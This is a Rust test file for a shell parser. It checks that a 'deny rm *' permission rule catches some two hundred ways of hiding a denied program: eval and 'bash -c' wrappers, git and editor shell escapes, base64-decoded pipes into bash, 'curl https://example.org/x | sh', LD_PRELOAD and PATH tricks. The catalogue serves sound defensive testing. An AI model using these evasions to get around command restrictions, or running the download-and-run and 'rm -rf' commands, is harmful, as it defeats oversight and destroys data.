//! Ways around one rule: `deny rm *`. Each hides the program from whoever looks at the text; none from the reading. Beside each
//! way a twin that does the same with a harmless program, which the rule must not catch.
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use piton_shell::{ByName, CommandPattern, Reading, read};

/// Whether a rule that denies `program` stops the command: a part could be it, code mentions it, or it cannot be known.
fn stopped(command: &str, program: &str) -> bool {
    let pattern = CommandPattern::parse(&format!("{program} *")).unwrap();
    let reading = read(command, &ByName);
    !reading.unknowable.is_empty()
        || reading.parts.iter().any(|part| pattern.could_match(part) || part.mentions(program))
}

/// Each with `RM` where the denied program stands, or a harmless one.
const WAYS: &[&str] = &[
    "RM x",
    "ls; RM x",
    "ls && RM x",
    "ls || RM x",
    "ls | RM x",
    "ls & RM x",
    "ls\nRM x",
    "(RM x)",
    "{ RM x; }",
    "! RM x",
    "time RM x",
    "if true; then RM x; fi",
    "while RM x; do break; done",
    "for i in 1; do RM x; done",
    "case a in a) RM x;; esac",
    "f() { RM x; }; f",
    "echo $(RM x)",
    "echo `RM x`",
    "echo \"$(RM x)\"",
    "echo ${x:-$(RM x)}",
    "echo ${y/a/`RM x`}",
    "cat <(RM x)",
    "cat <<E\n$(RM x)\nE",
    "cat <<< $(RM x)",
    "ls > $(RM x)",
    "x=$(RM x)",
    "x=$(RM x) ls",
    "a=(1 $(RM x))",
    "[[ -n $(RM x) ]]",
    "/bin/RM x",
    "'RM' x",
    "\"RM\" x",
    "$'RM' x",
    "\\RM x",
    "\"\"RM x",
    "R\\\nM x",
    "{RM,x}",
    "command RM x",
    "builtin command RM x",
    "exec RM x",
    "eval RM x",
    "eval 'RM x'",
    "bash -c 'RM x'",
    "bash -lc \"sh -c 'RM x'\"",
    "bash <<E\nRM x\nE",
    "bash <<< 'RM x'",
    "trap 'RM x' EXIT",
    "env RM x",
    "env A=1 RM x",
    "nohup RM x",
    "nice -n 5 RM x",
    "timeout 5 RM x",
    "timeout -s KILL 5 RM x",
    "setsid RM x",
    "stdbuf -oL RM x",
    "xargs RM",
    "find . -exec RM {} +",
    "find . -exec sh -c 'RM \"$1\"' _ {} \\;",
    "coproc RM x",
    "watch RM x",
    "busybox RM x",
    "sudo RM x",
    "flock l -c 'RM x'",
    "parallel RM ::: a",
    "git -c alias.x='!RM x' x",
    "git submodule foreach 'RM x'",
    "tar -x --to-command='RM x' -f a.tar",
    "rg --pre RM foo",
    "sort --compress-program RM x",
    "fd -x RM",
    "rsync -e 'RM x' a b:",
    "ssh -o ProxyCommand='RM x' host",
    "python3 -c 'import os; os.system(\"RM x\")'",
    "perl -e 'system(\"RM x\")'",
    "node -e 'require(\"child_process\").execSync(\"RM x\")'",
    "awk 'BEGIN { system(\"RM x\") }'",
    "sed '1e RM x' f",
    "vim -c '!RM x'",
    "make SHELL='RM x'",
    "tmux new-session 'RM x'",
    "nix shell nixpkgs#hello -c RM x",
    "nix develop -c RM x",
    "nix develop --command bash -c 'RM x'",
    "nix shell .#a --command RM x",
    "nix --offline shell .#a -c RM x",
    "nix run nixpkgs#busybox -- RM x",
    "nix-shell --run 'RM x'",
    "guix shell a -- RM x",
    "git grep -O'RM x' y",
    "git grep -ORM y",
    "git grep --open-files-in-pager='RM x' y",
    "git grep --open='RM x' y",
    "git grep -nO'RM x' y",
    "git fetch --upload-pack='RM x' .",
    "git push --receive-pack 'RM x' .",
    "git push --exec='RM x' .",
    "git ls-remote --upload-pack='RM x' .",
    "git clone -u 'RM x' . y",
    "git clone -u'RM x' . y",
    "git archive --remote=. --exec='RM x' HEAD",
    "git merge-index RM -a",
    "git merge-index -o -q RM a",
    "git send-email --to-cmd='RM x' a",
    "git send-email --smtp-server=/bin/RM a",
    "git difftool -y -x'RM x'",
    "git fetch ext::'RM x'",
    "git remote-ext o 'RM x'",
    "git bisect run RM x",
    "git rebase -x'RM x' HEAD~1",
    "ed <<< '!RM x'",
    "ed f <<< '!RM x'",
    "ed -s f <<E\n!RM x\nE",
    "red <<< '!RM x'",
    "ex <<< '!RM x'",
    "ex -s f <<E\n!RM x\nE",
    "vi -e f <<< '!RM x'",
    "vim -es f <<< '!RM x'",
    "nvim -es <<< '!RM x'",
    "vi -c '!RM x' f",
    "vim +'!RM x' f",
    "vim '+!RM x' f",
    "vim --cmd '!RM x'",
    "view -c '!RM x' f",
    "nvim +'call system(\"RM x\")'",
    "less +'!RM x' f",
    "more +'!RM x' f",
    "man -P'RM x' ls",
    "man -PRM ls",
    "tar -IRM -cf a.tar f",
    "tar -czIRM -f a.tar f",
    "tar -xFRM -f a.tar",
    "rsync -eRM a b:",
    "nc -eRM host 1",
    "zip -TTRM a.zip f",
    "sqlite3 db <<< '.shell RM x'",
    "sqlite3 db '.shell RM x'",
    "duckdb db '.shell RM x'",
    "duckdb db <<< '.shell RM x'",
    "psql db <<< '\\! RM x'",
    "psql -c '\\! RM x'",
    "mysql db <<< 'system RM x'",
    "gdb <<< 'shell RM x'",
    "gdb -ex '!RM x'",
    "gdb -batch -ex'shell RM x'",
    "lldb -o 'platform shell RM x'",
    "lldb <<< 'platform shell RM x'",
    "ftp <<< '!RM x'",
    "sftp host <<< '!RM x'",
    "lftp <<< '!RM x'",
    "telnet <<< '!RM x'",
    "mail <<< '~!RM x'",
    "mailx <<< '~!RM x'",
    "dc <<< '!RM x'",
    "gnuplot <<< '!RM x'",
    "gnuplot -e 'system \"RM x\"'",
    "ghci <<< ':!RM x'",
    "irb <<< '`RM x`'",
    "m4 <<< 'syscmd(RM x)'",
    "ssh localhost <<< 'RM x'",
    "sudo -s <<< 'RM x'",
    "sudo -i <<< 'RM x'",
    "unshare <<< 'RM x'",
    "chroot / <<< 'RM x'",
    "setarch x86_64 <<< 'RM x'",
    "fakeroot <<< 'RM x'",
    "su <<< 'RM x'",
    "script <<< 'RM x'",
    "nix develop <<< 'RM x'",
    "nix-shell <<< 'RM x'",
    "watchexec RM x",
    "watchexec -- RM x",
    "nodemon -x 'RM x'",
    "gum spin -- RM x",
    "fzf --bind 'start:execute(RM x)'",
    "npm --prefix y exec RM x",
    "npm explore y -- RM x",
    "pnpm -r exec RM x",
    "pnpm --filter y exec RM x",
    "yarn workspace y exec RM x",
    "yarn workspaces foreach exec RM x",
    "uv --quiet run RM x",
    "poetry -q run RM x",
    "mix cmd RM x",
    "cabal exec RM x",
    "cabal exec -- RM x",
    "stack exec -- RM x",
    "opam exec -- RM x",
    "dune exec -- RM x",
    "tox exec -- RM x",
    "jj util exec -- RM x",
    "cargo watch -s 'RM x'",
    "cargo watch -- RM x",
    "brew bundle exec RM x",
    "gem exec RM x",
    "conda --debug run -n y RM x",
    "just -c RM x",
    "tmux -c 'RM x'",
    "hg --config alias.y='!RM x' y",
    "gh alias set y '!RM x'",
    "emacs --batch --eval '(shell-command \"RM x\")'",
    "systemd-run RM x",
    "flatpak-spawn --host RM x",
    "distrobox enter y -- RM x",
    "op run -- RM x",
    "firejail RM x",
    "proot RM x",
    "ssh-agent RM x",
    "gosu bob RM x",
    "tini -- RM x",
    "cpulimit -l 5 -- RM x",
    "rr record RM x",
    "xterm -e RM x",
    "expect -c 'spawn RM x'",
    "docker run alpine RM x",
    "docker compose exec y RM x",
    "vagrant ssh -c 'RM x'",
    "ansible all -m shell -a 'RM x'",
    "kubectl exec y -- RM x",
    "php -r 'system(\"RM x\");'",
    "lua -e 'os.execute(\"RM x\")'",
    "R -e 'system(\"RM x\")'",
    "ruby -e '`RM x`'",
    "erl -eval 'os:cmd(\"RM x\").'",
    "swipl -g 'shell(\"RM x\")'",
    "groff -U <<< '.sy RM x'",
    "env -C y RM x",
    "split --filter='RM x' f",
    "busybox sh <<< 'RM x'",
    "yt-dlp --exec 'RM x' y",
    "wget --use-askpass=RM y",
    "ip netns exec y RM x",
    "make -f /dev/stdin <<< 'a:; RM x'",
    "bc <<< '!RM x'",
];

/// Ways that hide the name so that only the run shows it. No twin can be told from them.
const UNKNOWABLE_WAYS: &[&str] = &[
    "$x y",
    "$(echo rm) x",
    "r$x x",
    "/bin/r? x",
    "/bin/r* x",
    "X=rm; $X x",
    "echo rm x | sh",
    "base64 -d <<< cm0geA== | bash",
    "curl https://example.org/x | sh",
    "source x",
    ". x",
    "bash x",
    "eval \"$x\"",
    "bash -c \"$x\"",
    "ls() { $y; }; ls",
    "alias ls=x; ls",
    "PATH=. ls",
    "LD_PRELOAD=./x.so ls",
    "GIT_PAGER=x git log",
    "BASH_ENV=x bash -c ls",
    "hash -p /tmp/x ls",
    "env -S \"$x\"",
    "cp /bin/cat a; ./a x",
    "x='a[$(y)]'; (( x ))",
    "echo ${x@P}",
    "mywrap cat x",
    "ls \u{202e}x",
    "ls 'abc",
];

#[test]
fn no_way_leads_around_a_deny() {
    assert!(WAYS.len() + UNKNOWABLE_WAYS.len() >= 54);
    let passed: Vec<String> = WAYS.iter().map(|way| split_names(way, "rm")).filter(|way| !stopped(way, "rm")).collect();
    assert!(passed.is_empty(), "{passed:#?}");
    let passed: Vec<_> = UNKNOWABLE_WAYS.iter().filter(|way| read(way, &ByName).unknowable.is_empty()).collect();
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn the_same_ways_to_a_harmless_program_are_not_stopped() {
    let stopped: Vec<String> = WAYS.iter().map(|way| split_names(way, "ls")).filter(|way| stopped(way, "rm")).collect();
    assert!(stopped.len() * 20 <= WAYS.len(), "{} of {}: {stopped:#?}", stopped.len(), WAYS.len());
}

/// `RM` is the program, `R\⏎M` the same with a continuation in it.
fn split_names(way: &str, program: &str) -> String {
    way.replace("R\\\nM", &format!("{}\\\n{}", &program[..1], &program[1..])).replace("RM", program)
}

/// Wraps a command once more, so that bash still runs it.
fn wrapped(command: &str, random: &mut fastrand::Rng) -> String {
    let quoted = command.replace('\'', "'\\''");
    let harmless = [
        "ls",
        "git status",
        "echo 'a;b'",
        "x=1",
        "true",
        "cat <<< \"a b\"",
        "echo \"$(date)\"",
        "[[ -f x ]]",
        ": > /dev/null",
    ];
    let beside = harmless[random.usize(..harmless.len())];
    match random.u32(..28) {
        0 => format!("{beside}; {command}"),
        1 => format!("{beside} && {command}"),
        2 => format!("{command}\n{beside}"),
        3 => format!("( {command}\n)"),
        4 => format!("{{ {command}\n}}"),
        5 => format!("echo $( {command}\n)"),
        6 => format!("echo \"$( {command}\n)\""),
        7 => format!("bash -c '{quoted}'"),
        8 => format!("eval '{quoted}'"),
        9 => format!("if {beside}; then {command}\nfi"),
        10 => format!("while {beside}; do {command}\ndone"),
        11 => format!("for i in a; do {command}\ndone"),
        12 => format!("case a in a) {command}\n;; esac"),
        13 => format!("ff() {{ {command}\n}}; ff"),
        14 => format!("trap '{quoted}' EXIT"),
        15 => format!("cat <( {command}\n)"),
        16 => format!("x=$( {command}\n) true"),
        17 => format!("cat <<EOF\n$( {command}\n)\nEOF"),
        18 => format!("env A=1 sh -c '{quoted}'"),
        19 => format!("sudo -u bob bash -lc '{quoted}'"),
        20 => format!("timeout -k 1 5 dash -c '{quoted}'"),
        21 => format!("find . -exec sh -c '{quoted}' \\;"),
        22 => format!("! {{ {command}\n}}"),
        23 => format!("{beside} | {{ {command}\n}}"),
        24 => format!("coproc {{ {command}\n}}"),
        25 => format!("echo ${{x:-$( {command}\n)}}"),
        26 => format!("[[ -n $( {command}\n) ]]"),
        _ => format!("# a 'comment\n{command} # \" another"),
    }
}

#[test]
fn no_prefix_suffix_or_wrapper_hides_a_denied_command() {
    let mut random = fastrand::Rng::with_seed(20_261_122);
    for _ in 0..5_000 {
        let mut command = ["rm -rf x", "'rm' x", "r\\m x", "{rm,x}", "/bin/rm x", "rm \"$x\"", "$'\\x72m' x"]
            [random.usize(..7)]
        .to_string();
        for _ in 0..random.usize(1..6) {
            command = wrapped(&command, &mut random);
        }
        assert!(stopped(&command, "rm"), "{command}");
    }
}

#[test]
fn random_text_before_or_behind_a_denied_command_does_not_hide_it() {
    let mut random = fastrand::Rng::with_seed(7);
    let pieces = [
        " ", ";", "&", "|", "&&", "\n", "(", ")", "{", "}", "'", "\"", "`", "$", "$(", "${", "}", "<", ">", "<<E",
        "\nE\n", "#", "\\", "\\\n", "a", "b=", "[[", "]]", "((", "))", "if", "then", "fi", "do", "done", "case", "in",
        "esac", "echo", "ls", "eval", "!", "*", "=", "x[", "]", "1", "2>", ",", "..", "@", "~", "-", "é", "time",
        "function", "coproc",
    ];
    for _ in 0..20_000 {
        let noise = |random: &mut fastrand::Rng| {
            (0..random.usize(..10)).map(|_| pieces[random.usize(..pieces.len())]).collect::<String>()
        };
        let (before, behind) = (noise(&mut random), noise(&mut random));
        // On lines of its own the command runs, unless what is before it swallows it: then the text as a whole is what it is.
        let command = format!("{before}\nrm x\n{behind}");
        let reading = read(&command, &ByName);
        let swallowed = swallows(&before);
        assert!(swallowed || !reading.unknowable.is_empty() || has_rm(&reading), "{command:?}\n{reading:#?}");
    }
}

/// Whether a text opens a quote, comment, document or word that may go on in the next line.
fn swallows(text: &str) -> bool {
    text.contains(['\'', '"', '`', '\\', '<', '$', '[', '(', '{']) || text.contains("case") || text.contains("for")
}

fn has_rm(reading: &Reading) -> bool {
    reading.parts.iter().any(|part| part.words.first().is_some_and(|word| word == "rm"))
}

#[test]
fn any_text_is_read_without_a_panic() {
    let mut random = fastrand::Rng::with_seed(3);
    let seeds: Vec<String> = WAYS.iter().map(|way| split_names(way, "rm")).collect();
    for round in 0..40_000 {
        let mut bytes = if round % 4 == 0 {
            (0..random.usize(..60)).map(|_| random.u8(..)).collect()
        } else {
            let (one, two) = (&seeds[random.usize(..seeds.len())], &seeds[random.usize(..seeds.len())]);
            [one.as_bytes(), two.as_bytes()].concat()
        };
        for _ in 0..random.usize(..6) {
            if !bytes.is_empty() {
                let at = random.usize(..bytes.len());
                match random.u32(..3) {
                    0 => drop(bytes.remove(at)),
                    1 => bytes[at] = b"'\"`$(){}[];&|<>\\\n #*!=~,.-"[random.usize(..26)],
                    _ => bytes.insert(at, b"'\"`$(){}[];&|<>\\\n #*!=~,.-"[random.usize(..26)]),
                }
            }
        }
        let text = String::from_utf8_lossy(&bytes);
        let reading = read(&text, &ByName);
        for part in &reading.parts {
            assert!(text.get(part.span.clone()).is_some(), "{text:?}");
        }
    }
}
